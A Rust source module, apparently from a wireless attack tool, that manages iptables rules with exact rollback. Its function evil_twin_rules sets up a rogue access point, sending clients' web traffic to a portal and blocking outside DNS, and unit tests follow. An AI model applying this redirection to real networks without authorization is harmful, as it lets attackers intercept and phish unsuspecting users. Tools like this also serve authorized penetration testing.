//! Traffic redirection with token-tracked revert.
//!
//! The redirector installs only the rules it introduces and records exactly
//! what it added, so revert removes precisely those rules and nothing else.
//! Pre-existing firewall state is never flushed or replaced.

use std::collections::HashMap;
use std::fmt;
use std::net::Ipv4Addr;
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::{Arc, Mutex};

use tracing::{debug, info, warn};

use crate::error::{CleanupFailure, RuleApplyError};
use crate::runner::NetworkRuleEngine;

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Table {
    Filter,
    Nat,
}

impl Table {
    fn as_str(self) -> &'static str {
        match self {
            Table::Filter => "filter",
            Table::Nat => "nat",
        }
    }
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Chain {
    Forward,
    Prerouting,
    Postrouting,
}

impl Chain {
    fn as_str(self) -> &'static str {
        match self {
            Chain::Forward => "FORWARD",
            Chain::Prerouting => "PREROUTING",
            Chain::Postrouting => "POSTROUTING",
        }
    }
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Protocol {
    Tcp,
    Udp,
}

impl Protocol {
    fn as_str(self) -> &'static str {
        match self {
            Protocol::Tcp => "tcp",
            Protocol::Udp => "udp",
        }
    }
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub enum RuleTarget {
    Accept,
    Drop,
    Masquerade,
    Dnat { to: Ipv4Addr, port: u16 },
}

impl RuleTarget {
    fn as_str(&self) -> &'static str {
        match self {
            RuleTarget::Accept => "ACCEPT",
            RuleTarget::Drop => "DROP",
            RuleTarget::Masquerade => "MASQUERADE",
            RuleTarget::Dnat { .. } => "DNAT",
        }
    }
}

/// One netfilter rule, built with the builder methods and rendered to
/// iptables arguments by the engine.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct RedirectRule {
    table: Table,
    chain: Chain,
    protocol: Option<Protocol>,
    in_interface: Option<String>,
    out_interface: Option<String>,
    dst_port: Option<u16>,
    conn_state: Option<String>,
    target: RuleTarget,
}

impl RedirectRule {
    pub fn new(table: Table, chain: Chain, target: RuleTarget) -> Self {
        Self {
            table,
            chain,
            protocol: None,
            in_interface: None,
            out_interface: None,
            dst_port: None,
            conn_state: None,
            target,
        }
    }

    pub fn protocol(mut self, proto: Protocol) -> Self {
        self.protocol = Some(proto);
        self
    }

    pub fn in_interface(mut self, iface: &str) -> Self {
        self.in_interface = Some(iface.to_string());
        self
    }

    pub fn out_interface(mut self, iface: &str) -> Self {
        self.out_interface = Some(iface.to_string());
        self
    }

    pub fn dst_port(mut self, port: u16) -> Self {
        self.dst_port = Some(port);
        self
    }

    pub fn conn_state(mut self, state: &str) -> Self {
        self.conn_state = Some(state.to_string());
        self
    }

    /// Render to iptables arguments with the given action (`-A` / `-D`).
    pub fn to_args(&self, action: &str) -> Vec<String> {
        let mut args = vec![
            "-t".to_string(),
            self.table.as_str().to_string(),
            action.to_string(),
            self.chain.as_str().to_string(),
        ];

        if let Some(proto) = self.protocol {
            args.push("-p".to_string());
            args.push(proto.as_str().to_string());
        }
        if let Some(iface) = &self.in_interface {
            args.push("-i".to_string());
            args.push(iface.clone());
        }
        if let Some(iface) = &self.out_interface {
            args.push("-o".to_string());
            args.push(iface.clone());
        }
        if let Some(port) = self.dst_port {
            args.push("--dport".to_string());
            args.push(port.to_string());
        }
        if let Some(state) = &self.conn_state {
            args.push("-m".to_string());
            args.push("state".to_string());
            args.push("--state".to_string());
            args.push(state.clone());
        }

        args.push("-j".to_string());
        args.push(self.target.as_str().to_string());

        if let RuleTarget::Dnat { to, port } = &self.target {
            args.push("--to-destination".to_string());
            args.push(format!("{}:{}", to, port));
        }

        args
    }
}

impl fmt::Display for RedirectRule {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.to_args("-A").join(" "))
    }
}

/// The rule set for one rogue AP session: NAT out the uplink, DNAT web
/// traffic into the portal, permit forwarding, and force clients onto the
/// session's DNS by dropping forwarded external queries.
pub fn evil_twin_rules(
    ap_iface: &str,
    internet_iface: &str,
    portal_addr: Ipv4Addr,
    portal_port: u16,
) -> Vec<RedirectRule> {
    vec![
        RedirectRule::new(Table::Nat, Chain::Postrouting, RuleTarget::Masquerade)
            .out_interface(internet_iface),
        RedirectRule::new(
            Table::Nat,
            Chain::Prerouting,
            RuleTarget::Dnat {
                to: portal_addr,
                port: portal_port,
            },
        )
        .in_interface(ap_iface)
        .protocol(Protocol::Tcp)
        .dst_port(80),
        RedirectRule::new(
            Table::Nat,
            Chain::Prerouting,
            RuleTarget::Dnat {
                to: portal_addr,
                port: portal_port,
            },
        )
        .in_interface(ap_iface)
        .protocol(Protocol::Tcp)
        .dst_port(443),
        RedirectRule::new(Table::Filter, Chain::Forward, RuleTarget::Drop)
            .in_interface(ap_iface)
            .protocol(Protocol::Udp)
            .dst_port(53),
        RedirectRule::new(Table::Filter, Chain::Forward, RuleTarget::Accept)
            .in_interface(ap_iface)
            .out_interface(internet_iface),
        RedirectRule::new(Table::Filter, Chain::Forward, RuleTarget::Accept)
            .in_interface(internet_iface)
            .out_interface(ap_iface)
            .conn_state("RELATED,ESTABLISHED"),
    ]
}

/// Handle for one applied rule set.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub struct RuleToken(u64);

struct AppliedSet {
    rules: Vec<RedirectRule>,
    enabled_forwarding: bool,
}

/// Applies rule sets through the engine and reverts them by token.
pub struct TrafficRedirector {
    engine: Arc<dyn NetworkRuleEngine>,
    applied: Mutex<HashMap<u64, AppliedSet>>,
    next_token: AtomicU64,
}

impl TrafficRedirector {
    pub fn new(engine: Arc<dyn NetworkRuleEngine>) -> Self {
        Self {
            engine,
            applied: Mutex::new(HashMap::new()),
            next_token: AtomicU64::new(1),
        }
    }

    /// Install the rules in order, recording exactly what was added. If a
    /// rule fails mid-set, the already-installed prefix is rolled back
    /// before the error is returned.
    pub fn apply(
        &self,
        rules: Vec<RedirectRule>,
        enable_forwarding: bool,
    ) -> Result<RuleToken, RuleApplyError> {
        let mut enabled_forwarding = false;
        if enable_forwarding && !self.engine.ip_forwarding()? {
            self.engine.set_ip_forwarding(true)?;
            enabled_forwarding = true;
            info!("ip forwarding enabled");
        }

        let mut installed: Vec<RedirectRule> = Vec::with_capacity(rules.len());
        for rule in rules {
            debug!(rule = %rule, "installing redirect rule");
            if let Err(err) = self.engine.install(&rule) {
                warn!(rule = %rule, error = %err, "rule install failed; rolling back");
                for prev in installed.iter().rev() {
                    if let Err(rollback_err) = self.engine.remove(prev) {
                        warn!(rule = %prev, error = %rollback_err, "rollback removal failed");
                    }
                }
                if enabled_forwarding {
                    if let Err(fwd_err) = self.engine.set_ip_forwarding(false) {
                        warn!(error = %fwd_err, "failed to restore ip forwarding");
                    }
                }
                return Err(err);
            }
            installed.push(rule);
        }

        let token = RuleToken(self.next_token.fetch_add(1, Ordering::Relaxed));
        info!(rules = installed.len(), "redirect rules applied");
        self.applied
            .lock()
            .unwrap_or_else(|e| e.into_inner())
            .insert(
                token.0,
                AppliedSet {
                    rules: installed,
                    enabled_forwarding,
                },
            );
        Ok(token)
    }

    /// Remove precisely the rules recorded under the token, most recent
    /// first. A second revert with the same token is a no-op. Failures are
    /// collected, never aborting the remaining removals.
    pub fn revert(&self, token: RuleToken) -> Vec<CleanupFailure> {
        let set = {
            let mut applied = self.applied.lock().unwrap_or_else(|e| e.into_inner());
            applied.remove(&token.0)
        };
        let Some(set) = set else {
            debug!(token = token.0, "rule token already reverted");
            return Vec::new();
        };

        let mut failures = Vec::new();
        for rule in set.rules.iter().rev() {
            if let Err(err) = self.engine.remove(rule) {
                warn!(rule = %rule, error = %err, "rule removal failed");
                failures.push(CleanupFailure::new(format!("remove rule {}", rule), err.to_string()));
            }
        }
        if set.enabled_forwarding {
            if let Err(err) = self.engine.set_ip_forwarding(false) {
                failures.push(CleanupFailure::new("restore ip forwarding", err.to_string()));
            } else {
                info!("ip forwarding restored");
            }
        }
        failures
    }

    /// Number of rule sets still applied.
    pub fn outstanding(&self) -> usize {
        self.applied.lock().unwrap_or_else(|e| e.into_inner()).len()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::testing::RecordingRuleEngine;

    #[test]
    fn rule_args_render_like_iptables() {
        let rule = RedirectRule::new(
            Table::Nat,
            Chain::Prerouting,
            RuleTarget::Dnat {
                to: Ipv4Addr::new(10, 0, 0, 1),
                port: 8080,
            },
        )
        .in_interface("wlan0")
        .protocol(Protocol::Tcp)
        .dst_port(80);

        let args = rule.to_args("-A");
        assert_eq!(
            args,
            vec![
                "-t",
                "nat",
                "-A",
                "PREROUTING",
                "-p",
                "tcp",
                "-i",
                "wlan0",
                "--dport",
                "80",
                "-j",
                "DNAT",
                "--to-destination",
                "10.0.0.1:8080",
            ]
        );
    }

    #[test]
    fn apply_then_revert_is_lifo_and_exact() {
        let engine = Arc::new(RecordingRuleEngine::default());
        let redirector = TrafficRedirector::new(engine.clone());

        let rules = evil_twin_rules("wlan0", "eth0", Ipv4Addr::new(10, 0, 0, 1), 80);
        let expected: Vec<String> = rules.iter().map(|r| r.to_string()).collect();
        let token = redirector.apply(rules, true).unwrap();

        assert_eq!(engine.installed(), expected);
        assert!(engine.forwarding_enabled());

        let failures = redirector.revert(token);
        assert!(failures.is_empty());

        let mut reversed = expected.clone();
        reversed.reverse();
        assert_eq!(engine.removed(), reversed);
        assert!(!engine.forwarding_enabled());
        assert_eq!(redirector.outstanding(), 0);
    }

    #[test]
    fn double_revert_is_noop() {
        let engine = Arc::new(RecordingRuleEngine::default());
        let redirector = TrafficRedirector::new(engine.clone());

        let token = redirector
            .apply(evil_twin_rules("wlan0", "eth0", Ipv4Addr::new(10, 0, 0, 1), 80), false)
            .unwrap();

        assert!(redirector.revert(token).is_empty());
        let removed_once = engine.removed().len();
        assert!(redirector.revert(token).is_empty());
        assert_eq!(engine.removed().len(), removed_once);
    }

    #[test]
    fn mid_set_failure_rolls_back_installed_prefix() {
        let engine = Arc::new(RecordingRuleEngine::default());
        engine.fail_install_at(2);
        let redirector = TrafficRedirector::new(engine.clone());

        let err = redirector
            .apply(evil_twin_rules("wlan0", "eth0", Ipv4Addr::new(10, 0, 0, 1), 80), true)
            .unwrap_err();
        assert!(matches!(err, RuleApplyError::Install { .. }));

        // The two successfully installed rules were removed again, newest
        // first, and forwarding was restored.
        assert_eq!(engine.removed().len(), 2);
        assert_eq!(engine.installed().len(), 2);
        assert!(!engine.forwarding_enabled());
        assert_eq!(redirector.outstanding(), 0);
    }
}
